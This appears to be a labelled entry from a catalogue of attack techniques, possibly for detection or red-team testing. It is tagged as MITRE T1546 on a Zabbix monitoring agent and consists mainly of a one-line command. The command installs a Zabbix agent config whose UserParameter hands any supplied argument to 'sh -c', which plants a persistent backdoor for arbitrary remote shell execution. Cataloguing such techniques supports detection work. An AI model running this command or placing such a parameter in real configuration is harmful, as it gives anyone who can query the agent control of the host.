# technique: T1546
# location: linux.monitoring.zabbix
# source: /etc/zabbix/zabbix_agentd.d/x.conf
# severity: medium
install -D /dev/stdin /etc/zabbix/zabbix_agentd.d/x.conf <<< 'UserParameter=vfs.x[*],sh -c "$1"'
